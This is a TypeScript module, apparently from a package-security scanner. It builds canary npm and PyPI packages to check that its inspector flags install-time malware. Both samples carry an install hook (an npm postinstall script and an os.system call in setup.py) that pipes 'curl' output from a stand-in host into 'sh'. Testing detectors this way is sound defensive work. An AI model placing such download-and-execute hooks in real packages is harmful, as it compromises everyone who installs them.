import { mkdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import type { Inspector } from '../inspection/inspector.ts'
import type { ReadAs } from '../model/artifact.ts'
import { sha256 } from '../model/digest.ts'
import { ECOSYSTEMS, type Ecosystem } from '../model/ecosystem.ts'

interface Sample {
  readonly readAs: ReadAs
  readonly files: Readonly<Record<string, string>>
  /** a check that must find something in it */
  readonly check: string
}

/** Where nobody ever answers. */
const PLACE = 'https://canary.invalid/x'

/** Packages that no inspector may find nothing in: each fetches a program when it is installed, and starts it. */
const SAMPLES: Readonly<Record<Ecosystem, Sample>> = {
  npm: {
    readAs: 'npm-tarball',
    files: {
      'package/package.json': JSON.stringify({
        name: 'lazaret-canary',
        version: '1.0.0',
        scripts: { postinstall: ['curl', '-s', PLACE, '|', 'sh'].join(' ') },
      }),
    },
    check: 'download-and-execute',
  },
  pypi: {
    readAs: 'sdist-gzip',
    files: {
      'lazaret_canary-1.0/PKG-INFO': 'Metadata-Version: 2.1\nName: lazaret-canary\nVersion: 1.0\n',
      'lazaret_canary-1.0/setup.py': [
        'import os',
        'from setuptools import setup',
        `os.system("${['curl', '-s', PLACE, '|', 'sh'].join(' ')}")`,
        'setup(name="lazaret-canary", version="1.0")',
        '',
      ].join('\n'),
    },
    check: 'download-and-execute',
  },
}

/** Puts the packages into `folder`, which is made for them: at the start, so that a trial writes nothing while the server ends. */
export async function layOut(folder: string): Promise<void> {
  await mkdir(folder, { recursive: true })
  for (const ecosystem of ECOSYSTEMS) await writeFile(placeOf(folder, ecosystem), bytesOf(ecosystem), { mode: 0o600 })
}

function placeOf(folder: string, ecosystem: Ecosystem): string {
  return join(folder, `canary-${ecosystem}`)
}

function bytesOf(ecosystem: Ecosystem): Buffer {
  return gzipSync(Buffer.concat([...Object.entries(SAMPLES[ecosystem].files).flatMap(member), Buffer.alloc(1024)]))
}

/**
 * Inspects a package of ours that must be found bad, by the very processes that look at all others. Resolves with what is wrong with the
 * inspector, in words; undefined where it sees what it must. `folder`: where `layOut` put the packages.
 */
export async function fireAtInspector(
  inspector: Pick<Inspector, 'inspect'>,
  folder: string,
  ecosystem: Ecosystem,
): Promise<string | undefined> {
  const { readAs, check } = SAMPLES[ecosystem]
  const bytes = bytesOf(ecosystem)
  const path = placeOf(folder, ecosystem)
  try {
    // What is gone is not laid out again: the folder may be on its way out, too.
    if (!(await readFile(path)).equals(bytes)) await writeFile(path, bytes)
    const facts = await inspector.inspect({ path, digest: sha256(bytes), readAs }, { urgent: false })
    if (facts.findings.some((finding) => finding.check === check)) return undefined
    const seen = facts.findings.map((finding) => finding.check).join(', ')
    return `the inspector does not see what a bad ${ecosystem} package of ours does: ${seen === '' ? 'it finds nothing' : seen}`
  } catch (error) {
    return `the inspector could not be tried on ${ecosystem}: ${error instanceof Error ? error.message : String(error)}`
  }
}

/** A member of a tar [POSIX ustar]. */
function member([path, text]: readonly [string, string]): readonly Buffer[] {
  const content = Buffer.from(text)
  const header = Buffer.alloc(512)
  const put = (value: string, at: number): void => void header.write(value, at, 'latin1')
  put(path, 0)
  put('0000644\0', 100)
  put('0000000\0', 108)
  put('0000000\0', 116)
  put(`${content.length.toString(8).padStart(11, '0')}\0`, 124)
  put('00000000000\0', 136)
  put('        ', 148)
  put('0', 156)
  put('ustar\x0000', 257)
  const sum = header.reduce((total, byte) => total + byte, 0)
  put(`${sum.toString(8).padStart(6, '0')}\0 `, 148)
  return [header, content, Buffer.alloc((512 - (content.length % 512)) % 512)]
}
